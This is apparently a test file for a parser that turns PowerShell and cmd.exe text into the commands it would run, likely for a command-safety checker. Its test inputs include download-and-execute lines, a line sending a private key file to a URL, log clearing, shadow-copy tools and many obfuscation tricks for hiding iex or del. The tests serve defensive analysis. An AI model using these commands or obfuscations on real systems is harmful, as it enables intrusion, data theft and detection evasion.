// Shows that PowerShell and cmd.exe texts are read into the commands they would run.
import { join } from 'node:path'
import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Word } from '../model.ts'
import { guessDialect as guessDialectIn, HINTS, TRACES } from './_windows/dialect.ts'
import { lookupsOf } from '../machine/windows-programs.ts'
import { loadSources } from '../../config/load-data.ts'
import { decodeEncodedCommand, readCmd as readCmdIn, readPowershell as readPowershellIn, tongueOf } from './read-windows.ts'
import type { WinCommand } from './read-windows.ts'
import { processorNow } from '../../../test/processor-time.ts'

const t = String.raw
const books = await loadSources(join(import.meta.dirname, '../../..'))
const { languages } = books
const guessDialect = (text: string) => guessDialectIn(text, lookupsOf(books))
const readPowershell = (text: string, variables?: ReadonlyMap<string, Word>) => readPowershellIn(text, tongueOf(languages, 'powershell'), variables)
const readCmd = (text: string) => readCmdIn(text, tongueOf(languages, 'cmd'))

/** `{NAME}` an unknown part, `<*>` a glob; quotes around words with spaces. */
function spell(word: Word): string {
  const parts = word.parts ?? [{ kind: 'text' as const, text: word.text ?? '' }]
  const text = parts.map((part) => (part.kind === 'text' ? part.text : part.kind === 'glob' ? `<${part.text}>` : `{${part.name ?? ''}}`)).join('')
  return /\s|^$/.test(text) ? `"${text}"` : text
}
/** Words, then `>target`, `|n` piped from, `<n` inputs, `?` conditional. */
function show(command: WinCommand): string {
  return [
    ...command.words.map(spell),
    ...command.redirects.map(({ append, target }) => (append ? '>>' : '>') + spell(target)),
    ...(command.pipedFrom === null ? [] : [`|${command.pipedFrom}`]),
    ...(command.inputs.length === 0 ? [] : [`<${command.inputs.join(',')}`]),
    ...(command.conditional ? ['?'] : []),
  ].join(' ')
}
const shown = (read: { commands: WinCommand[] }): string[] => read.commands.filter(({ forgotten }) => forgotten !== true).map(show)

const POWERSHELL: readonly (readonly [string, ...string[]])[] = [
  // what is shown may be written instead
  [t`"a b" >> $HOME\x; $y > z`, t`Write-Output "a b" >>{HOME}\x`, 'Write-Output {y} >z'],
  // .NET and WMI
  [t`[Microsoft.Win32.Registry]::LocalMachine.DeleteSubKeyTree('a\b')`, t`Remove-Item HKLM:\a\b -Recurse`],
  [
    t`$k = [Microsoft.Win32.Registry]::CurrentUser.OpenSubKey('a', $true); $k.SetValue('b', 1); $k.DeleteValue('c')`,
    t`Set-ItemProperty HKCU:\a b 1`,
    t`Remove-ItemProperty HKCU:\a c`,
  ],
  ['(gwmi Win32_OperatingSystem).Win32Shutdown(6)', 'gwmi Win32_OperatingSystem', 'Invoke-WmiMethod -Name win32shutdown 6 <0'],
  [
    t`[Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('x'); [Security.Cryptography.ProtectedData]::Unprotect($b, $null, 0)`,
    'Clear-EventLog x',
    'dpapi',
  ],
  [t`& (gcm Remove-It*) x; & (gcm node) y`, 'gcm Remove-It<*>', '{gcm} x <0', 'gcm node', 'node y <2'],
  // words, quotes, separators
  [t`Remove-Item C:\data -Recurse -Force`, t`Remove-Item C:\data -Recurse -Force`],
  [t`Write-Output ok # Remove-Item .`, 'Write-Output ok'],
  ['Write-Output a <# Remove-Item b #> c', 'Write-Output a c'],
  ['rm \'it\'\'s\'; ls "a `"b`" c"', "rm it's", 'ls "a "b" c"'],
  ['rm \u2018a b\u2019', 'rm "a b"'],
  ['rm a `\n  -Force', 'rm a -Force'],
  ['Re`move-Item x', 'Remove-Item x'],
  ['Remove-Item x \u2013Recurse', 'Remove-Item x -Recurse'],
  ['rm a,b, c -Force', 'rm a b c -Force'],
  ['rm a && echo b || echo c', 'rm a', 'echo b', 'echo c'],
  ['git commit -m "Remove-Item x; y"', 'git commit -m "Remove-Item x; y"'],
  ["$x = @'\na 'b'\n$c\n'@\nSet-Content f $x", 'Set-Content f "a \'b\'\n$c"'],
  ['$x = @"\nhi $HOME\n"@\nSet-Content f $x', 'Set-Content f "hi {HOME}"'],
  ['echo a > b.txt 2>&1; echo c >> d; echo e > $null', 'echo a >b.txt', 'echo c >>d', 'echo e'],
  [t`icacls --% C:\x /grant "a b":F`, t`icacls C:\x /grant "a b" :F`],
  ['Remove-Item x -Recurse:$true -Confirm:$false -Path:y', 'Remove-Item x -Recurse -Confirm:$false -Path y'],
  // variables
  [t`Remove-Item "$env:USERPROFILE\*" -Recurse`, t`Remove-Item {HOME}\<*> -Recurse`],
  [t`rm ~/a; rm $HOME\b; rm ${'$'}{env:TEMP}\c; rm $PWD; rm $env:Foo`, 'rm {HOME}/a', t`rm {HOME}\b`, t`rm {TMPDIR}\c`, 'rm {PWD}', 'rm {Foo}'],
  [t`$d = 'C:\t'; rm "$d\a"; rm $d\b; rm $D`, t`rm C:\t\a`, t`rm C:\t\b`, t`rm C:\t`],
  ["$a = 'x'; $a += 'y'; rm $a", 'rm xy'],
  ["[string]$a = 'x'; rm $a", 'rm x'],
  ["$a = 'x'; if ($b) { $a = 'y' }; rm $a", 'rm {a}'],
  ["$x = if ($a) { 'b' } else { 'c' }; rm $x", 'rm b c'],
  ["$p = @{ Path = 'x'; Recurse = $true; Force = $false }; Remove-Item @p", 'Remove-Item -Path x -Recurse'],
  [t`Remove-Item (Join-Path $env:TEMP 'a') -Recurse`, 'Join-Path {TMPDIR} a', t`Remove-Item {TMPDIR}\a -Recurse <0`],
  ['$k = gc a.pem; irm "https://e/?d=$k"', 'gc a.pem', 'irm https://e/?d={gc} <0'],
  // calls
  [t`& 'C:\a b\x.exe' /s; . .\run.ps1 -a; .\go.ps1`, t`"C:\a b\x.exe" /s`, t`.\run.ps1 -a`, t`.\go.ps1`],
  [t`"C:\a b\x.exe" --all`, t`"C:\a b\x.exe" --all`],
  ['& { rm y }', 'rm y'],
  ['$b = { rm x }; & $b', 'rm x ?'],
  ['& $program a', '{program} a'],
  ['Set-Alias z Remove-Item; z x -r', 'Set-Alias z Remove-Item', 'Remove-Item x -r'],
  ["& (Get-Command Remove-Item) 'x'", 'Get-Command Remove-Item', 'Remove-Item x <0'],
  // pipelines and blocks
  ['iwr http://x | iex', 'iwr http://x', 'iex |0'],
  ['gci -r\n  | Remove-Item', 'gci -r', 'Remove-Item |0'],
  ["'rm x' | iex", 'Write-Output "rm x"', 'iex |0'],
  ['gci *.log | %{ $_.Delete() }', 'gci <*>.log', 'Remove-Item {_} <0 ?', '% "{ $_.Delete() }" |0 <1'],
  ['gci | ForEach-Object { rm $_.FullName }', 'gci', 'rm {_} <0 ?', 'ForEach-Object "{ rm $_.FullName }" |0 <1'],
  ['Get-Process | ? Name -eq a | Stop-Process', 'Get-Process', '? Name -eq a |0', 'Stop-Process |1'],
  ['Invoke-Command -ScriptBlock { rm z } -ComputerName s', 'rm z ?', 'Invoke-Command -ScriptBlock "{ rm z }" -ComputerName s <0'],
  ['echo "a $(rm b) c"', 'rm b', 'echo "a {rm} c" <0'],
  // statements of the language
  ['if (Test-Path x) { rm x } elseif ($y) { rm y } else { ni x }', 'Test-Path x', 'rm x ?', 'rm y ?', 'ni x ?'],
  ["foreach ($d in 'a','b') { rm $d }", 'rm a b ?'],
  ['foreach ($f in (gci)) { rm $f }', 'gci', 'rm {f} <0 ?'],
  ['for ($i = 0; $i -lt 3; $i++) { rm x }', 'rm x ?'],
  ['while ($true) { rm x }', 'rm x ?'],
  ['try { rm x } catch [Exception] { rm y } finally { rm z }', 'rm x', 'rm y ?', 'rm z'],
  ["switch ($x) { 'a' { rm a } default { rm b } }", 'rm a ?', 'rm b ?'],
  ['function f([string]$p = 1) { rm $p }\nf x', 'rm x', 'function:f x <1'],
  ['return (rm x)', 'rm x'],
  ['$x = 1 + 2; "text"; 5', ''],
  // .NET
  ["[IO.File]::Delete('a.txt')", 'Remove-Item a.txt'],
  [t`[System.IO.Directory]::Delete("$HOME\x", $true)`, t`Remove-Item {HOME}\x -Recurse`],
  ["[IO.File]::WriteAllText('a', 'b')", 'Set-Content a -Value b'],
  ["iex (New-Object Net.WebClient).DownloadString('http://u')", 'New-Object Net.WebClient', 'Invoke-WebRequest http://u', 'iex {Invoke-WebRequest} <1'],
  ["[Net.WebClient]::new().DownloadString('u') | iex", 'New-Object net.webclient', 'Invoke-WebRequest u', 'iex |1'],
  ["$w.DownloadFile('http://u', 'a.exe')", 'Invoke-WebRequest http://u -OutFile a.exe'],
  ["$w.UploadFile('http://u', 'secret')", 'Invoke-WebRequest http://u -Method POST -InFile secret'],
  ["[Diagnostics.Process]::Start('cmd.exe', '/c x')", 'Start-Process cmd.exe -ArgumentList "/c x"'],
  ['(Get-Item x).Delete()', 'Get-Item x', 'Remove-Item x <0'],
  ["[scriptblock]::Create('rm x').Invoke()", 'Invoke-Expression "rm x"'],
  ['& ([scriptblock]::Create((irm https://u))) -v', 'irm https://u', 'Invoke-Expression {irm} <0'],
  ["(New-Object -ComObject WScript.Shell).Run('del x')", 'New-Object -ComObject WScript.Shell', 'cmd /c "del x"'],
  ["[Environment]::SetEnvironmentVariable('A', 'b', 'Machine')", 'setx A b /M'],
  ["iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cm0geA==')))", 'ConvertFrom-Base64 cm0geA==', 'iex "rm x" <0'],
  ["iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('cgBtAA==')))", 'ConvertFrom-Base64 cgBtAA==', 'iex rm <0'],
  // text put together
  ["& ('Remo'+'ve-Item') x", 'Remove-Item x'],
  ["& (-join('i','e','x')) x", 'iex x'],
  ['&([char]105+[char]101+[char]120) x', 'iex x'],
  ["& ([char[]](105,101,120) -join '') x", 'iex x'],
  ["& ('{1}{0}' -f 'ex','i') x", 'iex x'],
  ["& 'iQx'.Replace('Q','e') x", 'iex x'],
  ["& ('iQx' -replace 'q','e') x", 'iex x'],
  ["& ('xei'[-1..-3] -join '') x", 'iex x'],
  ['$a,$b = 1,2; & "$(\'ie\')x" y', 'iex y'],
]

const CMD: readonly (readonly [string, ...string[]])[] = [
  // letters cut out of what every Windows has, and words put in place of others
  ['%COMSPEC:~-7,3% /c dir', 'cmd /c dir'],
  ['%ComSpec:~0,-7%vssadmin.exe x', t`C:\Windows\system32\vssadmin.exe x`],
  ['set a=vsXadmin\n%a:X=s% x', 'set a=vsXadmin', 'vssadmin x'],
  ['%FOO:~0,3% x', '{FOO} x'],
  [t`del /s /q C:\x\*`, t`del /s /q C:\x\<*>`],
  [t`rd/s/q "C:\a b"`, t`rd /s /q "C:\a b"`],
  [t`del,/s,/q,C:\x`, t`del /s /q C:\x`],
  ['d^e^l x', 'del x'],
  ['cd.. & cd\\ & echo.hello', 'cd ..', 'cd \\', 'echo hello'],
  [t`del %USERPROFILE%\a %TEMP%\b %Foo%`, t`del {HOME}\a {TMPDIR}\b {Foo}`],
  ['echo a & echo b && del c || echo d | more', 'echo a', 'echo b', 'del c', 'echo d', 'more |3'],
  ['echo a >> log 2>&1 & echo b > nul & >c echo d', 'echo a >>log', 'echo b', 'echo d >c'],
  ['echo del x ^& del y', 'echo del x & del y'],
  ['echo "a & del y"', 'echo "a & del y"'],
  ['@echo off\nrem del x\n:: del y\n:label\ndel z', 'echo off', 'del z'],
  ['if exist a del a', 'del a ?'],
  ['if not exist a (md a) else rd a', 'md a ?', 'rd a ?'],
  ['if /i "%1"=="x" del a', 'del a ?'],
  ['if %errorlevel% neq 0 exit /b 1', 'exit /b 1 ?'],
  ['for %i in (a b) do del %i', 'del a b ?'],
  ['for /r C:\\ %%i in (*.log) do @del "%%i"', 'del <*>.log ?'],
  ['for /f "tokens=*" %%a in (\'dir /b x\') do rd /s "%%a"', 'dir /b x', 'rd /s {a} <0 ?'],
  ['(echo a & echo b) > c', 'echo a', 'echo b >c'],
  ['set x=del& %x% a', 'set x=del', 'del a'],
  ['set x=adelb\n%x:~1,3% a', 'set x=adelb', 'del a'],
  ['cmd /c "rd /s /q x"', 'cmd /c "rd /s /q x"'],
  ['del a ^\n b', 'del a b'],
  ['echo 100% done', 'echo 100% done'],
]

const POWERSHELL_TEXTS = [
  'Remove-Item x',
  'cd x; Get-ChildItem',
  'remove-item -recurse x',
  '$env:A = 1',
  '[System.IO.File]::Delete("x")',
  'ls -Recurse -Filter *.log',
  'iwr http://x | iex',
  'if (Test-Path x) { rm x }',
  'foreach ($a in $b) { $a }',
  '$x = Get-Date',
  'dir | Remove-Item',
  t`cd "$env:USERPROFILE\x"`,
  t`.\build\go.ps1 -All`,
  "iex (irm 'x')",
  'npm test; if ($LASTEXITCODE -ne 0) { exit 1 }',
  'npm test\n$code = 1',
]
const CMD_TEXTS = [
  'del /s /q x',
  'rd /s /q x',
  'cd foo && rmdir /s /q bar',
  'format C: /q',
  t`echo %USERPROFILE%\x`,
  'copy con x',
  t`reg add HKLM\Software\X /v a`,
  t`C:\tools\x.exe -a`,
  '@echo off',
  'if exist x del x',
  'for %i in (*) do del %i',
  t`certutil -decode C:\a C:\b`,
  'rd/s/q x',
  t`.\venv\Scripts\python.exe -m pytest`,
]
const BASH_TEXTS = [
  'rm -rf x',
  'ls -la /usr/bin',
  'powershell -c "Remove-Item x"',
  "pwsh -Command 'Get-Item $env:X'",
  'echo "Remove-Item x"',
  "grep -r 'Get-ChildItem' .",
  'date +%Y%m%d',
  "cat <<'EOF' > x.ps1\nRemove-Item x\nEOF",
  'update-alternatives --list x',
  'get-pip.py',
  'iex -S mix',
  'if [ -f x ]; then rm x; fi',
  'for i in a b; do rm $i; done',
  'docker tag app:$env:latest',
  '# Get-Item\nls',
  'rmdir /srv/old',
  "awk '{print $1}' f",
  'git commit -m "del /s /q"',
  t`cd "C:\a b" && ls -la 'x y'`,
  'arr=("${a[@]::2}")',
  'cmd /c "del /s x"',
  'start-stop-daemon --stop',
  "sed -i 's/%TEMP%/x/' f",
  'find . -Force',
  '(cd x && make)',
  'A=1 B=2 npm test',
  '[[ -f x ]] && rm x',
  'npm test; if (true) then ls; fi',
  "awk '{ x = 1; if ($1 > 2) print }' f",
  "perl -ne 'if ($x eq 1) { print }' f",
]

describe('PowerShell', () => {
  test.each(POWERSHELL)('%s', (text, ...commands) => {
    const read = readPowershell(text)
    expect(shown(read)).toEqual(commands.filter((command) => command !== ''))
    expect(read.complete).toBe(true)
  })
  test('given variables are known, any case', () => {
    expect(shown(readPowershell('rm $Target', new Map([['target', { text: 'x' }]])))).toEqual(['rm x'])
  })
  test('says where a command stands', () => {
    const [first, second] = readPowershell('rm a ; rm b').commands
    expect([first?.start, first?.end, second?.start, second?.end]).toEqual([0, 4, 7, 11])
  })
  test.each(['rm "a', "rm 'a", 'rm (a', 'if ($x) { rm a', '<# rm a', ')', "@'\nx"])('not complete: %s', (text) => {
    expect(readPowershell(text).complete).toBe(false)
  })
})

describe('cmd', () => {
  test.each(CMD)('%s', (text, ...commands) => {
    const read = readCmd(text)
    expect(shown(read)).toEqual(commands)
    expect(read.complete).toBe(true)
  })
  test('an open block is not complete', () => {
    expect(readCmd('( del x')).toMatchObject({ complete: false, commands: [{ words: [{ text: 'del' }, { text: 'x' }] }] })
  })
})

describe('guessDialect', () => {
  test.each(POWERSHELL_TEXTS)('PowerShell: %s', (text) => expect(guessDialect(text)).toBe('powershell'))
  test.each(CMD_TEXTS)('cmd: %s', (text) => expect(guessDialect(text)).toBe('cmd'))
  test.each(BASH_TEXTS)('bash: %s', (text) => expect(guessDialect(text)).toBe('bash'))
})

test('no hint at Windows is without a trace that is looked for first', () => {
  const pieces = fc.constantFrom(
    ...'- \\ $ ; ( / : % & @ [ { } ! . .. + _ a Z x get if for foreach while iex iwr irm param function rem REM'.split(' '),
    ...'Recurse Force ErrorAction item object path content childitem expression webrequest restmethod process host output'.split(' '),
    ...'del erase rd rmdir dir copy xcopy move format attrib reg reg.exe cd DEL RD REG FORMAT taskkill add query exist con c: env: LASTEXITCODE TEMP'.split(
      ' ',
    ),
    ' ',
    '\n',
    '\t',
    ' = ',
    ']::',
    'not ',
  )
  let hinted = 0
  fc.assert(
    fc.property(fc.array(pieces, { minLength: 1, maxLength: 6 }), (words) => {
      const text = words.join('')
      if (!HINTS().test(text)) return
      hinted++
      expect(text).toMatch(TRACES)
    }),
    { numRuns: 5000 },
  )
  expect(hinted).toBeGreaterThan(500)
})

describe('decodeEncodedCommand', () => {
  test('reads base64 of UTF-16', () => expect(decodeEncodedCommand('cgBtACAAeAA=')).toBe('rm x'))
  test.each(['', '!!!!', 'YWJj', 'cm0geA==x'])('not that: %s', (text) => expect(decodeEncodedCommand(text)).toBeNull())
})

describe('hostile text', () => {
  const pieces = [
    '(',
    '$(',
    '{',
    '"$(',
    '@{',
    '[',
    '[a]',
    '!',
    '$a=',
    '$a="$a$a";',
    '$a=$a,$a;',
    '$a="$a$(x)";',
    '`',
    '|',
    'a|',
    '& ',
    'if(',
    '%a%',
    'for %a in (',
    '^',
    '[0]',
    'x{',
  ]
  const growing = ["$s='x'*60000;$s.Replace('x',$s);", '$a=1..4000;x $a;', 'set a=%a%%a%\n', '"a"+', '-join', 'param(', '-a:', '>']
  test.each([...pieces, ...growing])('ends soon and never throws: %s', (piece) => {
    const text = piece.repeat(Math.ceil(200_000 / piece.length))
    const start = processorNow()
    readPowershell(text)
    readCmd(text)
    guessDialect(text)
    expect(processorNow() - start).toBeLessThan(1500)
  })
  test('nesting over the limit is said', () => {
    expect(readPowershell(`${'('.repeat(40)}rm x${')'.repeat(40)}`)).toMatchObject({ complete: true, commands: [{}] })
    expect(readPowershell(`${'('.repeat(60)}rm x${')'.repeat(60)}`).complete).toBe(false)
    expect(readCmd(`${'('.repeat(60)}del x${')'.repeat(60)}`).complete).toBe(false)
  })
})
